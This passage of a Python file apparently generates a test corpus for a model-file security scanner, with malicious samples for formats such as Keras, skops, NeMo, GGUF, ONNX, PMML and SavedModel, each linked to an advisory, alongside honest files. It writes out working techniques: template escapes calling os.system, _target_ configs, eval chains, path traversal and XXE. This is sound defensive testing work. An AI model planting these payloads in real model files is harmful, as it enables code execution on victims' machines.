    yield Row("crc.pt", bytes(crc), ("posix.system",), JFROG_ZIP, "torch")
    flag = bytearray(good)
    flag[6] |= 1
    yield Row("encrypted_flag_local.pt", bytes(flag), ("posix.system",), PICKLESCAN, "torch")
    name = bytearray(good)
    name[30 : 30 + len("archive/data.pkl")] = b"archive/data.txt"
    yield Row(
        "local_name.pt", bytes(name), ("posix.system",), "https://nvd.nist.gov/vuln/detail/CVE-2025-1944", "torch"
    )
    yield Row("deflated.pt", _torch_zip(PLAIN, zipfile.ZIP_DEFLATED), ("posix.system",), PICKLESCAN, "torch")
    twice = [("archive/data.pkl", PLAIN), ("archive/data.pkl", HONEST), ("archive/version", b"3\n")]
    yield Row(
        "twice_first.pt",
        _zip(twice),
        ("posix.system",),
        PICKLESCAN,
        "torch",
    )
    yield Row(
        "twice_last.pt",
        _zip([twice[1], twice[0], twice[2]]),
        ("posix.system",),
        PICKLESCAN,
        "torch",
        proven=False,
        reason="torch takes the first here, as it is built now; a reader in Python takes the last",
    )
    upper = [("archive/DATA.PKL", PLAIN), ("archive/version", b"3\n"), ("archive/byteorder", b"little")]
    yield Row("upper_case.pt", _zip(upper), ("posix.system",), PICKLESCAN, "torch")
    yield Row("behind_other_bytes.bin", good + b"\x00" * 64, ("posix.system",), PICKLESCAN, "torch")
    sizes = bytearray(good)
    sizes[22:26] = struct.pack("<I", 1)
    sizes[18:22] = struct.pack("<I", 1)
    yield Row(
        "local_size.pt", bytes(sizes), ("posix.system",), "https://nvd.nist.gov/vuln/detail/CVE-2025-1945", "torch"
    )


@family("numpy archives", held=False)
def _numpys():
    def header(text_of_it: str, version: int = 1) -> bytes:
        size = "<H" if version == 1 else "<I"
        fixed = 8 + struct.calcsize(size)
        padded = text_of_it + " " * (-(len(text_of_it) + fixed + 1) % 64) + "\n"
        return b"\x93NUMPY" + bytes([version, 0]) + struct.pack(size, len(padded)) + padded.encode()

    objects = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    yield Row(
        "compressed.npz",
        _zip({"w.npy": header(objects) + PLAIN}, zipfile.ZIP_DEFLATED),
        ("posix.system",),
        HIDE_AND_SEEK,
        "numpy",
        use="obj['w']",
    )
    yield Row(
        "no_suffix.npz",
        _zip({"weights": header(objects, 3) + PLAIN}),
        ("posix.system",),
        HIDE_AND_SEEK,
        "numpy",
        use="obj['weights']",
    )
    fields = "{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    yield Row("fields.npy", header(fields, 2) + PLAIN, ("posix.system",), HIDE_AND_SEEK, "numpy")
    nested = "{'shape': (0,), 'descr': [('a', [('b', '|O', (2,))])], 'fortran_order': True, }"
    yield Row("empty_nested.npy", header(nested, 3) + PLAIN, ("posix.system",), HIDE_AND_SEEK, "numpy")
    yield Row("no_array.npy", PLAIN, ("posix.system",), HIDE_AND_SEEK, "numpy")


@family("torch containers", held=True)
def _containers():
    magic, version = pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2)
    system = pickle.dumps(
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2
    )
    thing, keys = pickle.dumps({"a": 1}, 2), pickle.dumps([], 2)
    legacy = "https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6"
    yield Row("legacy_magic.pth", PLAIN + version + system + thing + keys, ("posix.system",), HIDE_AND_SEEK, "torch")
    yield Row("legacy_system.pth", magic + version + PLAIN + thing + keys, ("posix.system",), HIDE_AND_SEEK, "torch")
    yield Row("legacy_keys.pth", magic + version + system + thing + PLAIN, ("posix.system",), HIDE_AND_SEEK, "torch")
    count = pickle.dumps(0, 2)
    yield Row(
        "tar_storages.pt",
        _tar([("storages", PLAIN), ("tensors", count), ("pickle", thing)]),
        ("posix.system",),
        legacy,
        "torch",
    )
    yield Row(
        "tar_pickle.pt",
        _tar([("storages", count + keys), ("tensors", count), ("pickle", PLAIN)]),
        ("posix.system",),
        legacy,
        "torch",
    )
    package = {
        "p/.data/version": b"6\n",
        "p/.data/extern_modules": b"",
        "p/.data/python_version": b"3.11",
        "p/layers.py": f"{CODE}\n\n\nclass Net:\n    pass\n".encode(),
        "p/model/model.pkl": program(New(G("layers", "Net")), 2),
        "p/byteorder": b"little",
        "p/version": b"6\n",
    }
    yield Row(
        "package.pt",
        _zip(package),
        ("layers", "source", "torch.package", "package"),
        "https://docs.pytorch.org/docs/stable/package.html",
        "torch.package",
    )
    yield Row(
        "script_writes.pt",
        _script(),
        ("save", "aten::save", "torch.save"),
        "https://www.blackhat.com/us-25/briefings/schedule/#safe-harbor-or-hostile-waters-unveiling-the-hidden-perils-of-the-torchscript-engine-in-pytorch-44682",
        "torch.jit",
        use="import torch; obj(torch.zeros(2))",
    )


def _script() -> bytes:
    import torch

    class Writes(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, "canary")
            return x

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Writes()), buffer)
    return buffer.getvalue()


def _keras(layers: list[dict], outer: str = "Functional", **more) -> bytes:
    config = {
        "name": "m",
        "trainable": True,
        "layers": layers,
        "input_layers": [["i", 0, 0]],
        "output_layers": [["i", 0, 0]],
    }
    if outer == "Sequential":
        config = {"name": "m", "trainable": True, "dtype": "float32", "layers": layers}
    model = {
        "module": "keras" if outer == "Sequential" else "keras.src.models.functional",
        "class_name": outer,
        "config": config,
        "registered_name": outer,
        "build_config": {"input_shape": [None, 2]},
        **more,
    }
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return _zip(
        {
            "metadata.json": json.dumps(metadata).encode(),
            "config.json": json.dumps(model).encode(),
            "model.weights.h5": _unpacked(EMPTY_H5),
        }
    )


INPUT = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "config": {"batch_shape": [None, 2], "dtype": "float32", "sparse": False, "name": "i"},
    "registered_name": None,
    "name": "i",
    "inbound_nodes": [],
}


def _lambda(name: str = "l") -> dict:
    def run(*x):
        open("canary", "w")  # noqa: SIM115, PTH123
        return x[0]

    code = base64.b64encode(marshal.dumps(run.__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    config = {
        "name": name,
        "trainable": True,
        "dtype": "float32",
        "function": function,
        "arguments": {},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": config,
        "registered_name": None,
        "build_config": {"input_shape": [None, 2]},
    }


def _unpacked(packed: str) -> bytes:
    return zlib.decompress(base64.b85decode(packed))


@family("keras archives", held=True)
def _kerases():
    advice = "https://github.com/keras-team/keras/security/advisories/"

    def function(module: str, name: str, *arguments, **named) -> dict:
        return {
            "module": module,
            "class_name": "function",
            "config": name,
            "registered_name": name,
            "name": name,
            "inbound_nodes": [{"args": list(arguments), "kwargs": named}],
        }

    yield Row(
        "lambda.keras",
        _keras([INPUT, _lambda()], "Sequential"),
        ("lambda",),
        "https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
        "keras, unsafe",
    )
    wrapped = {
        "module": "keras.layers",
        "class_name": "TimeDistributed",
        "registered_name": None,
        "config": {"name": "t", "trainable": True, "dtype": "float32", "layer": _lambda()},
        "build_config": {"input_shape": [None, 2, 2]},
    }
    series = {**INPUT, "config": {**INPUT["config"], "batch_shape": [None, 2, 2]}}
    yield Row(
        "lambda_wrapped.keras",
        _keras([series, wrapped], "Sequential"),
        ("lambda",),
        "https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
        "keras, unsafe",
    )
    yield Row(
        "function_of_os.keras",
        _keras([INPUT, function("os", "system", COMMAND)]),
        ("os.system", "system"),
        advice + "GHSA-48g7-3x6r-xfhp",
        "keras",
    )
    yield Row(
        "function_of_subprocess.keras",
        _keras([INPUT, function("subprocess", "getoutput", COMMAND)]),
        ("subprocess",),
        advice + "GHSA-48g7-3x6r-xfhp",
        "keras",
    )
    fetched = function(
        "keras.utils", "get_file", fname="canary", origin="file:///etc/hostname", cache_dir=".", cache_subdir="."
    )
    yield Row("get_file.keras", _keras([INPUT, fetched]), ("get_file",), advice + "GHSA-c9rc-mg46-23w3", "keras")
    switch = function("keras.config", "enable_unsafe_deserialization")
    value = [_lambda()["config"]["function"]["config"]["code"], None, None]
    hidden = function("functools", "reduce", {"class_name": "__lambda__", "config": {"value": value}}, [1, 2])
    yield Row(
        "switch_off.keras",
        _keras([INPUT, switch, hidden]),
        ("enable_unsafe_deserialization", "__lambda__"),
        advice + "GHSA-36fq-jgmw-4r9c",
        "keras",
    )
    module = base64.b64encode(_torch_zip(PLAIN)).decode()
    torch_layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "registered_name": None,
        "config": {"name": "w", "module": module},
        "name": "w",
        "inbound_nodes": [],
    }
    yield Row(
        "torch_wrapper.keras",
        _keras([INPUT, torch_layer]),
        ("torchmodulewrapper", "posix.system"),
        "https://nvd.nist.gov/vuln/detail/CVE-2025-49655",
        "keras, 3.11",
    )
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "registered_name": None,
        "config": {"name": "s", "vocabulary": "/etc/hostname"},
        "name": "s",
        "inbound_nodes": [],
    }
    yield Row(
        "lookup_file.keras",
        _keras([INPUT, lookup]),
        ("vocabulary", "/etc/hostname", "stringlookup"),
        "https://nvd.nist.gov/vuln/detail/CVE-2025-12058",
        "keras",
        proven=False,
        reason="the layer needs tensorflow of that time",
    )
    renamed = _keras([INPUT, function("posix", "system", COMMAND)])
    yield Row("renamed.zip", renamed, ("posix.system", "system"), advice + "GHSA-48g7-3x6r-xfhp", "keras")
    yield Row("lambda.h5", _unpacked(LAMBDA_H5), ("lambda",), "https://nvd.nist.gov/vuln/detail/CVE-2025-9905", "keras")
    yield Row(
        "external_storage.h5",
        _unpacked(EXTERNAL_H5),
        ("external",),
        "https://nvd.nist.gov/vuln/detail/CVE-2026-1669",
        "h5",
        use="external",
    )
    yield Row(
        "external_link.h5",
        _unpacked(LINK_H5),
        ("external", "link"),
        "https://nvd.nist.gov/vuln/detail/CVE-2026-1669",
        "h5",
        use="external",
    )


@family("skops schemas", held=False)
def _skopses():
    def literal(value):
        return {
            "__class__": type(value).__name__,
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(value),
            "is_json": True,
        }

    def items(*content):
        return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(content)}

    def named(module, name, loader="TypeNode"):
        inner = {"__class__": name, "__module__": module}
        return (
            {"__class__": "type", "__module__": "builtins", "__loader__": loader, "content": inner}
            if loader == "TypeNode"
            else {**inner, "__loader__": loader, "content": inner}
        )

    def method(target, name, module="sklearn.base", kind="BaseEstimator"):
        return {
            "__class__": kind,
            "__module__": module,
            "__loader__": "MethodNode",
            "content": {"func": name, "obj": target},
        }

    def operated(name, *arguments, module="sklearn.pipeline"):
        return {"__class__": name, "__module__": module, "__loader__": "OperatorFuncNode", "attrs": items(*arguments)}

    def archive(schema):
        return _zip({"schema.json": json.dumps({**schema, "protocol": 2, "_skops_version": "0.11.0"}).encode()})

    # object -> __subclasses__ and __globals__, by methods of honest objects
    base = {
        "__class__": "LinearRegression",
        "__module__": "sklearn.linear_model._base",
        "__loader__": "ObjectNode",
        "content": {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {},
            "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []},
        },
    }
    scope = method(method(method(base, "get_params"), "__func__"), "__globals__")
    builtins = operated("getitem", scope, literal("__builtins__"))
    evaluate = operated("getitem", builtins, literal("eval"))
    first = "https://github.com/skops-dev/skops/security/advisories/GHSA-m7f4-hrc6-fwg3"
    second = "https://github.com/skops-dev/skops/security/advisories/GHSA-4v6w-xpmh-gfgp"
    yield Row(
        "operator_call.skops",
        archive(operated("call", evaluate, literal(CODE))),
        ("operatorfuncnode", "operator", "call"),
        first,
        "skops",
    )
    yield Row(
        "method_globals.skops",
        archive(operated("call", operated("getitem", builtins, literal("exec")), literal(CODE), module="numpy")),
        ("methodnode", "__globals__", "operatorfuncnode"),
        second,
        "skops",
    )
    yield Row(
        "operator_of_eval.skops",
        archive(operated("call", named("builtins", "eval", "FunctionNode"), literal(CODE), module="builtins")),
        ("eval", "operatorfuncnode"),
        first,
        "skops",
    )
    yield Row(
        "joblib_in_disguise.skops",
        program(called("subprocess", "getoutput", COMMAND), 3),
        ("subprocess",),
        "https://github.com/skops-dev/skops/security/advisories/GHSA-378x-6p4f-8jgm",
        "joblib",
    )


@family("targets of hydra", held=True)
def _hydras():
    source = "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
    empty = _torch_zip(pickle.dumps({}, 2))
    yaml = (
        f"model:\n  _target_: os.system\n  _args_: ['{COMMAND}']\ntarget: nemo.collections.asr.models.EncDecCTCModel\n"
    )
    yield Row(
        "model.nemo",
        _tar([("./model_config.yaml", yaml.encode()), ("./model_weights.ckpt", empty)]),
        ("_target_", "os.system"),
        source,
        "hydra",
    )
    nested = f'preprocessor:\n  steps:\n  - name: a\n  - _target_: builtins.exec\n    _args_: ["{CODE}"]\n'
    yield Row(
        "nested.nemo",
        _tar([("model_config.yaml", nested.encode()), ("model_weights.ckpt", empty)], packed=True),
        ("_target_", "exec"),
        source,
        "hydra",
    )
    config = {"_target_": "subprocess.getoutput", "_args_": [COMMAND]}
    yield Row(
        "config.json",
        json.dumps({"encoder": config, "model_type": "moirai"}).encode(),
        ("_target_", "subprocess"),
        source,
        "hydra",
    )
    header = json.dumps(
        {
            "__metadata__": {
                "format": "pt",
                "config": json.dumps({"decoder": {"_target_": "builtins.eval", "_args_": [CODE]}}),
            },
            "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        }
    ).encode()
    yield Row(
        "metadata.safetensors",
        struct.pack("<Q", len(header)) + header + b"\0\0\0\0",
        ("_target_", "eval"),
        source,
        "hydra",
    )


def _gguf(pairs: dict[str, str], version: int = 3) -> bytes:
    count = "<I" if version == 1 else "<Q"

    def string(value: str) -> bytes:
        raw = value.encode()
        return struct.pack(count, len(raw)) + raw

    start = b"GGUF" + struct.pack("<I", version) + struct.pack(count, 0) + struct.pack(count, len(pairs))
    return start + b"".join(string(key) + struct.pack("<I", 8) + string(value) for key, value in pairs.items())


@family("chat templates", held=False)
def _templates():
    source = "https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829"
    turns = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
    known = {"general.architecture": "llama", "general.name": "small", "tokenizer.ggml.model": "gpt2"}
    run = f"('{COMMAND}').read()"
    plain = turns + "{{ cycler.__init__.__globals__.os.popen" + run + " }}"
    yield Row(
        "cycler.gguf",
        _gguf({**known, "tokenizer.chat_template": plain}),
        ("__globals__", "template", "cycler"),
        source,
        "gguf",
    )
    named = "{% set x = joiner %}" + turns + "{{ x['__in' ~ 'it__']['__glo' ~ 'bals__']['os']['popen']" + run + " }}"
    yield Row(
        "tool_template.gguf",
        _gguf({**known, "tokenizer.chat_template": turns, "tokenizer.chat_template.tool_use": named}),
        ("template", "joiner", "popen"),
        source,
        "gguf",
    )
    escaped = (
        turns
        + "{{ namespace|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('get')('os')|attr('popen')('"
        + COMMAND
        + "') }}"
    )
    yield Row(
        "escaped.gguf",
        _gguf({**known, "tokenizer.chat_template": escaped}, 2),
        ("template", "attr", "__globals__"),
        source,
        "gguf",
    )
    late = (
        turns
        + '{% if messages|length > 0 %}{% set f = lipsum.__globals__ %}{{ f.__builtins__.eval("'
        + CODE
        + '") }}{% endif %}'
    )
    yield Row(
        "tokenizer_config.json",
        json.dumps({"chat_template": late, "bos_token": "<s>"}).encode(),
        ("__globals__", "template", "lipsum"),
        source,
        "tokenizer",
    )
    listed = [
        {"name": "default", "template": turns},
        {
            "name": "rag",
            "template": "{% macro m(a) %}{{ a.__class__.__mro__[1].__subclasses__() | length }}{% endmacro %}"
            + turns
            + "{{ m('') }}{{ dict.__base__.__subclasses__ and cycler.next.__globals__['os'].system('"
            + COMMAND
            + "') }}",
        },
    ]
    yield Row(
        "listed/tokenizer_config.json",
        json.dumps({"chat_template": listed}).encode(),
        ("__subclasses__", "template", "__globals__"),
        source,
        "tokenizer",
    )
    walked = (
        turns
        + "{% for k in [self._TemplateReference__context] %}{{ k.cycler.__init__.__globals__.os.system('"
        + COMMAND
        + "') }}{% endfor %}"
    )
    yield Row(
        "chat_template.jinja", walked.encode(), ("__globals__", "template", "_templatereference"), source, "jinja"
    )
    formatted = (
        turns
        + "{% set g = messages.__class__.__init__ or '' %}{{ range.__class__.__base__.__subclasses__() | length }}"
        + "{% filter trim %}{{ lipsum['__globals__']['os']['system']('"
        + COMMAND
        + "') }}{% endfilter %}"
    )
    yield Row(
        "chat_template.json",
        json.dumps({"chat_template": formatted}).encode(),
        ("__subclasses__", "template", "__globals__"),
        source,
        "tokenizer",
    )


def _onnx(location: str) -> bytes:
    from onnx import TensorProto, helper

    tensor = helper.make_tensor("w", TensorProto.UINT8, [4], b"\0\0\0\0", raw=True)
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "4")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    out = helper.make_tensor_value_info("w", TensorProto.UINT8, [4])
    graph = helper.make_graph([], "g", [], [out], [tensor])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], ir_version=8).SerializeToString(
        deterministic=True
    )


@family("paths out of the folder", held=False)
def _paths():
    """External data of ONNX, and members of archives, that lie elsewhere."""
    outside = "https://nvd.nist.gov/vuln/detail/CVE-2022-25882"
    older = "onnx before 1.13 follows it, and there is none for this Python"
    yield Row(
        "up/model.onnx",
        _onnx("../outside.bin"),
        ("external", "location", "../outside.bin"),
        outside,
        "onnx",
        proven=False,
        reason=older,
    )
    yield Row(
        "hidden/model.onnx",
        _onnx("data/../../outside.bin"),
        ("external", "location", "outside.bin"),
        "https://nvd.nist.gov/vuln/detail/CVE-2024-27318",
        "onnx",
    )
    yield Row(
        "absolute/model.onnx",
        _onnx("/etc/hostname"),
        ("external", "location", "/etc/hostname"),
        outside,
        "onnx",
        proven=False,
        reason=older,
    )
    slip = "https://nvd.nist.gov/vuln/detail/CVE-2024-5187"
    yield Row(
        "up.tar.gz",
        _tar([("model/model.onnx", b"x"), ("../canary", b"x")], packed=True),
        ("../canary", "path", "travers"),
        slip,
        "tar",
    )
    link = tarfile.TarInfo("model/weights")
    link.type, link.linkname = tarfile.SYMTYPE, "../.."
    yield Row("link.tar", _tar([(link, b""), ("model/weights/canary", b"x")]), ("symlink", "link", "path"), slip, "tar")
    hard = tarfile.TarInfo("model/canary")
    hard.type, hard.linkname = tarfile.LNKTYPE, "../victim"
    yield Row(
        "hard_link.nemo",
        _tar([("model_config.yaml", b"a: 1\n"), (hard, b"")]),
        ("link", "path"),
        "https://nvd.nist.gov/vuln/detail/CVE-2024-0129",
        "tar",
        use="linked",
    )
    yield Row(
        "up.mar",
        _zip(
            {
                "MAR-INF/MANIFEST.json": json.dumps({"model": {"modelName": "m", "handler": "h.py"}}).encode(),
                "../../canary": b"x",
            }
        ),
        ("../../canary", "path", "travers"),
        "https://nvd.nist.gov/vuln/detail/CVE-2023-48299",
        "mar",
        proven=False,
        reason="the reader is Java",
    )


@family("entities in PMML", held=True)
def _entities():
    source = "https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing"

    def pmml(before: str, inside: str, root: str = "") -> bytes:
        body = f'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"{root}><Header description="{"a" if "<" in inside or "&" in inside else inside}">{inside}</Header><DataDictionary/></PMML>'
        return f'<?xml version="1.0" encoding="UTF-8"?>\n{before}\n{body}\n'.encode()

    yield Row(
        "external.pmml",
        pmml('<!DOCTYPE PMML [<!ENTITY e SYSTEM "outside.txt">]>', "<Application name='a'/>&e;"),
        ("entity", "doctype", "xxe"),
        source,
        "xml",
    )
    yield Row(
        "parameter.pmml",
        pmml('<!DOCTYPE PMML [<!ENTITY % p SYSTEM "outside.dtd">%p;]>', "<Application name='a'/>&t;"),
        ("entity", "doctype", "xxe"),
        source,
        "xml",
    )
    levels = "".join(f'<!ENTITY e{n} "{"".join(f"&e{n - 1};" for _ in range(8))}">' for n in range(1, 5))
    yield Row(
        "growing.pmml",
        pmml(f'<!DOCTYPE PMML [<!ENTITY e0 "CANARY">{levels}]>', "<Application name='a'/>&e4;"),
        ("entity", "doctype", "expansion"),
        source,
        "xml",
    )
    include = '<xi:include href="outside.txt" parse="text"/>'
    yield Row(
        "included.pmml", pmml("", include, ' xmlns:xi="http://www.w3.org/2001/XInclude"'), ("include",), source, "xml"
    )


def _field(number: int, value: bytes | str | int) -> bytes:
    def varint(one: int) -> bytes:
        out = b""
        while one > 127:
            out += bytes([one & 127 | 128])
            one >>= 7
        return out + bytes([one])

    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def _node(name: str, op: str, *inputs: str, **attributes: bytes) -> bytes:
    body = _field(1, name) + _field(2, op) + b"".join(_field(3, one) for one in inputs)
    return body + b"".join(_field(5, _field(1, key) + _field(2, value)) for key, value in sorted(attributes.items()))


def _string(name: str, value: str) -> bytes:
    tensor = _field(1, 7) + _field(2, b"") + _field(8, value)
    return _node(name, "Const", dtype=_field(6, 7), value=_field(8, tensor))


def _saved(nodes: list[bytes], main: str = "", library: bytes = b"") -> bytes:
    graph = (
        b"".join(_field(1, one) for one in nodes)
        + (_field(2, library) if library else b"")
        + _field(4, _field(1, 1882))
    )
    meta = _field(1, _field(4, "serve")) + _field(2, graph)
    if main:
        meta += _field(4, _field(1, "saved_model_main_op") + _field(2, _field(1, _field(1, main))))
    return _field(1, 1) + _field(2, meta)


@family("operations of SavedModel", held=True)
def _saveds():
    source = "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/"
    abuse = "https://arxiv.org/abs/2411.12195"
    write = [_string("n", "canary"), _string("c", "x"), _node("w", "WriteFile", "n", "c")]
    yield Row("write/saved_model.pb", _saved(write, "w"), ("writefile",), abuse, "savedmodel")
    inside = _field(1, _field(1, "f")) + b"".join(
        _field(3, one)
        for one in (_string("n", "canary"), _string("c", "x"), _node("w", "WriteFile", "n:output:0", "c:output:0"))
    )
    inside += _field(6, _field(1, "w") + _field(2, "w"))
    call = _node("p", "StatefulPartitionedCall", Tin=_field(1, b""), Tout=_field(1, b""), f=_field(10, _field(1, "f")))
    yield Row("function/saved_model.pb", _saved([call], "p", _field(1, inside)), ("writefile",), abuse, "savedmodel")
    yield Row(
        "read/saved_model.pb",
        _saved([_string("n", "victim"), _node("r", "ReadFile", "n")], ""),
        ("readfile",),
        abuse,
        "savedmodel",
        use="r:0",
    )
    python = _node("p", "PyFunc", Tin=_field(1, b""), Tout=_field(1, _field(6, 1)), token=_field(2, "pyfunc_0"))
    yield Row(
        "python/saved_model.pb",
        _saved([python], ""),
        ("pyfunc",),
        source,
        "savedmodel",
        proven=False,
        reason="its token names a function of the process that wrote it",
    )
    matched = [_string("n", "*"), _node("m", "MatchingFiles", "n")]
    yield Row("match/saved_model.pb", _saved(matched, ""), ("matchingfiles",), abuse, "savedmodel", use="m:0")


@family("streams within streams", held=False)
def _streams():
    """Compressed or joined so that a reader of the first part sees an honest one."""
    import bz2
    import lzma

    yield Row(
        "first_member_honest.pkl.gz",
        gzip.compress(emit(Call(G("posix", "system"), COMMAND), 2)[:8], mtime=0)
        + gzip.compress(emit(Call(G("posix", "system"), COMMAND), 2)[8:] + b".", mtime=0),
        ("posix.system",),
        HIDE_AND_SEEK,
        "pandas",
    )
    yield Row(
        "two_parts.pkl.bz2",
        bz2.compress(PLAIN[:7]) + bz2.compress(PLAIN[7:]),
        ("posix.system",),
        HIDE_AND_SEEK,
        "pandas",
    )
    yield Row(
        "two_parts.pkl.xz",
        lzma.compress(PLAIN[:7]) + lzma.compress(PLAIN[7:]),
        ("posix.system",),
        HIDE_AND_SEEK,
        "pandas",
    )
    yield Row(
        "one_member.pkl.zip",
        _zip({"weights.csv": PLAIN}, zipfile.ZIP_DEFLATED),
        ("posix.system",),
        HIDE_AND_SEEK,
        "pandas",
    )
    yield Row("in_a_tar.pkl.tar", _tar([("notes.txt", PLAIN)]), ("posix.system",), HIDE_AND_SEEK, "pandas")
    yield Row("lzma_alone.joblib", lzma.compress(PLAIN, lzma.FORMAT_ALONE), ("posix.system",), HIDE_AND_SEEK, "joblib")
    yield Row(
        "broken_torch.7z",
        _seven(_torch_zip(PLAIN)),
        ("posix.system",),
        NULLIFAI,
        "7z",
        proven=False,
        reason="no unpacker of 7z is installed",
    )


def _seven(data: bytes) -> bytes:
    """A 7z archive of one stored member (coder Copy), as the broken torch files of nullifAI were packed."""

    def number(value: int) -> bytes:
        if value < 128:
            return bytes([value])
        return (
            bytes([0x80 | value >> 8 & 0x3F, value & 255])
            if value < 1 << 14
            else b"\xc0" + struct.pack("<H", value & 0xFFFF)
        )

    name = "data.pkl".encode("utf-16-le") + b"\0\0"
    streams = b"\x04\x06\x00\x01\x09" + number(len(data)) + b"\x00"
    streams += b"\x07\x0b\x01\x00\x01\x01\x00\x0c" + number(len(data)) + b"\x00"
    streams += b"\x08\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00\x00"
    files = b"\x05\x01\x11" + number(len(name) + 1) + b"\x00" + name + b"\x00"
    header = b"\x01" + streams + files + b"\x00"
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


# --- honest ------------------------------------------------------------------------------------------------------

Writer = Callable[[Path], object]


@dataclass(frozen=True)
class Fair:
    """An honest file before it is written."""

    name: str
    write: Writer
    loader: str
    use: str = ""


HONEST_SOURCES: list[tuple[tuple[str, ...], Callable[[], Iterator[Fair]]]] = []


def honest(*needed: str):
    """Marks a maker of honest files, with the modules it needs."""

    def keep(maker):
        HONEST_SOURCES.append((needed, maker))
        return maker

    return keep


def pickled(thing, protocol: int = 5) -> Writer:
    return lambda path: path.write_bytes(pickle.dumps(thing, protocol))


@honest("sklearn", "joblib")
def _estimators():  # noqa: PLR0915
    import joblib
    import numpy as np
    import scipy.sparse
    from sklearn import (
        calibration,
        cluster,
        compose,
        covariance,
        cross_decomposition,
        decomposition,
        ensemble,
        experimental,
        feature_extraction,
        feature_selection,
        gaussian_process,
        impute,
        isotonic,
        kernel_approximation,
        linear_model,
        manifold,
        mixture,
        model_selection,
        multioutput,
        naive_bayes,
        neighbors,
        neural_network,
        pipeline,
        preprocessing,
        random_projection,
        semi_supervised,
        svm,
        tree,
    )

    _ = experimental
    draw = np.random.default_rng(7)
    x = draw.normal(size=(40, 3)).astype(np.float64)
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    kernel = gaussian_process.kernels.RBF() + gaussian_process.kernels.WhiteKernel() * gaussian_process.kernels.Matern(
        nu=2.5
    )
    made = {
        "gaussian_process": gaussian_process.GaussianProcessClassifier(kernel, random_state=0).fit(x, y),
        "ball_tree": neighbors.KNeighborsRegressor(algorithm="ball_tree", metric="haversine").fit(x[:, :2], x[:, 2]),
        "kernel_density": neighbors.KernelDensity(metric="chebyshev").fit(x),
        "isotonic": isotonic.IsotonicRegression(out_of_bounds="clip").fit(x[:, 0], x[:, 1]),
        "histogram_boosting": ensemble.HistGradientBoostingClassifier(max_iter=3, random_state=0).fit(x, y),
        "boosting": ensemble.GradientBoostingRegressor(n_estimators=3, loss="huber", random_state=0).fit(x, x[:, 0]),
        "isolation": ensemble.IsolationForest(n_estimators=3, random_state=0).fit(x),
        "stacking": ensemble.StackingClassifier([("a", svm.LinearSVC()), ("b", naive_bayes.GaussianNB())]).fit(x, y),
        "calibrated": calibration.CalibratedClassifierCV(svm.SVC(), cv=2).fit(x, y),
        "bayes_mixture": mixture.BayesianGaussianMixture(n_components=2, random_state=0).fit(x),
        "birch": cluster.Birch(n_clusters=2).fit(x),
        "hdbscan": cluster.HDBSCAN(min_cluster_size=5, copy=True).fit(x),
        "isomap": manifold.Isomap(n_components=2, n_neighbors=30).fit(x),
        "kernel_pca": decomposition.KernelPCA(2, kernel="rbf").fit(x),
        "pls": cross_decomposition.PLSRegression(1).fit(x, x[:, 0]),
        "elliptic": covariance.EllipticEnvelope(random_state=0).fit(x),
        "iterative_neighbours": impute.KNNImputer().fit(x),
        "mlp": neural_network.MLPClassifier((4,), max_iter=5, random_state=0).fit(x, y),
        "label_spreading": semi_supervised.LabelSpreading().fit(x, y),
        "sgd": linear_model.SGDClassifier(loss="modified_huber", random_state=0).fit(x, y),
        "ransac": linear_model.RANSACRegressor(random_state=0).fit(x, x[:, 1]),
        "nystroem": kernel_approximation.Nystroem(n_components=5, random_state=0).fit(x),
        "sparse_projection": random_projection.SparseRandomProjection(2, random_state=0).fit(x),
        "extra_tree_multi": tree.ExtraTreeRegressor(max_depth=3, random_state=0).fit(x, x[:, :2]),
        "chain": multioutput.ClassifierChain(linear_model.LogisticRegression()).fit(x, np.stack([y, 1 - y], 1)),
        "search": model_selection.RandomizedSearchCV(
            linear_model.Ridge(), {"alpha": [0.1, 1.0]}, n_iter=2, cv=2, random_state=0
        ).fit(x, x[:, 0]),
        "hasher": feature_extraction.FeatureHasher(8),
        "words": feature_extraction.text.TfidfVectorizer(ngram_range=(1, 2)).fit(
